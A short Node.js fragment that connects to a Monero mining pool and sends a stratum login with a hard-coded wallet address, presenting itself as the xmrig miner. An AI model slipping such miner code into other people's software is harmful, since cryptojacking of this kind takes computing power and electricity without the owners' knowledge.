import { connect } from "net";
const pool = connect({ host: "xmr.pool-mining.net", port: 3333 });
pool.write(JSON.stringify({ id: 1, method: "login", params: { login: "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", agent: "xmrig/6.2" } }) + "\n");
